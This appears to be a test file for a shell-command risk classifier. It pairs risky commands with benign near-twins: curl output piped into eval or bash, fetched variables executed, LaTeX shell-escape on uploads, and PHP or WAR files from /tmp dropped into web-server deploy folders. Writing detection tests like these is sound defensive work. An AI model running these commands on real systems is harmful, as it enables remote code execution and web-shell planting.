import { ALERT_RISK } from '../../common/detection';
import { GRAVE_RISK as GRAVE, holdClauseCases } from './hold_clause_cases';

/** Code that comes from elsewhere, and the nearest thing that only brings data or an application's own. */
holdClauseCases([
  [
    'a page is run line by line, not handed on line by line',
    ['sh', 'curl -s https://api.example.org/ids | while read l; do eval "$l"; done'],
    'download_run',
    [
      'sh',
      'curl -s https://api.example.org/ids | while read id; do php artisan import "$id"; done',
    ],
    ALERT_RISK,
  ],
  [
    'a line of a page is a command, not a word of one',
    ['sh', 'curl -s https://api.example.org/ids | while read -r l; do $l; done'],
    'download_run',
    ['sh', 'curl -s https://api.example.org/ids | while read -r l; do echo "$l"; done'],
    ALERT_RISK,
  ],
  [
    'a line of a page is a shell’s text or its script',
    ['sh', 'curl -s https://api.example.org/ids | while read l; do bash -c "$l"; done'],
    'download_run',
    [
      'sh',
      'curl -s https://api.example.org/ids | while read l; do bash /srv/app/get.sh "$l"; done',
    ],
    'download_run',
  ],
  [
    'a script by the name of a line is no argument',
    ['sh', 'curl -s https://api.example.org/ids | while read l; do sh $l; done'],
    'download_run',
    ['sh', 'curl -s https://api.example.org/ids | while read l; do sh get.sh $l; done'],
    'download_run',
  ],
  [
    'a word that a variable has the name of is not that variable',
    ['sh', 'curl -s https://api.example.org/ids | while read id; do sh get.sh id; done'],
    'download_run',
    ['sh', 'curl -s https://api.example.org/ids | while read id; do sh get.sh $id; done'],
    'download_run',
  ],
  [
    'what was fetched into a variable is run, not compared',
    ['sh', 'V=$(curl https://api.example.org/v); $V'],
    'download_run',
    ['sh', 'V=$(curl -s https://api.example.org/v); [ "$V" = 2 ] || exit 1'],
    ALERT_RISK,
  ],
  [
    'the same by the older mark, in quotes',
    ['sh', 'V=`curl https://api.example.org/v`; "$V"'],
    'download_run',
    ['sh', 'V=`curl -s https://api.example.org/v`; P=`command -v php`; $P /srv/app/set.php "$V"'],
    'download_run',
  ],
  [
    'a document may run programs, not may not',
    ['argv', 'pdflatex -shell-escape upload.tex'],
    GRAVE,
    ['argv', 'pdflatex -no-shell-escape upload.tex'],
    ALERT_RISK,
  ],
  [
    'the same by its other names',
    ['sh', 'latexmk -pdf --enable-write18 upload.tex'],
    GRAVE,
    ['sh', 'latexmk -pdf -halt-on-error upload.tex'],
    ALERT_RISK,
  ],
  [
    'an application is put where a server runs it, by who stands beside it',
    ['argv', 'cp a.war webapps/'],
    GRAVE,
    ['argv', 'cp target/app.war /opt/tomcat/webapps/'],
    ALERT_RISK,
  ],
  [
    'an application for the server from where anybody writes',
    ['sh', 'mv /tmp/a.ear /opt/wildfly/standalone/deployments/'],
    GRAVE,
    ['sh', "cp '/srv/builds/shop.ear' '/opt/wildfly/standalone/deployments/'"],
    ALERT_RISK,
  ],
  [
    'an archive is unpacked among a server’s applications, not among plug-ins',
    ['sh', 'tar xf /tmp/t.tar -C /opt/wildfly/standalone/deployments'],
    GRAVE,
    ['sh', "tar -xzf '/tmp/pkg.tar.gz' -C '/srv/app/plugins'"],
    ALERT_RISK,
  ],
  [
    'a page is installed from where anybody writes, not from its own folder',
    ['sh', 'install -m 644 /var/tmp/c.php /var/www/html/inc/cache.php'],
    GRAVE,
    ['sh', 'install -m 644 -o app inc/cache.php /var/www/html/inc/cache.php'],
    ALERT_RISK,
  ],
  [
    'a page is linked from where anybody writes',
    ['sh', 'ln -s /tmp/c.php /var/www/html/c.php'],
    GRAVE,
    ['sh', 'ln -sf /srv/app/current/index.php /var/www/html/index.php'],
    ALERT_RISK,
  ],
  [
    'a text becomes a page, not the example of it',
    ['sh', 'cp notes.txt inc.php'],
    GRAVE,
    ['sh', 'cp config.inc.php.dist config.inc.php'],
    ALERT_RISK,
  ],
]);
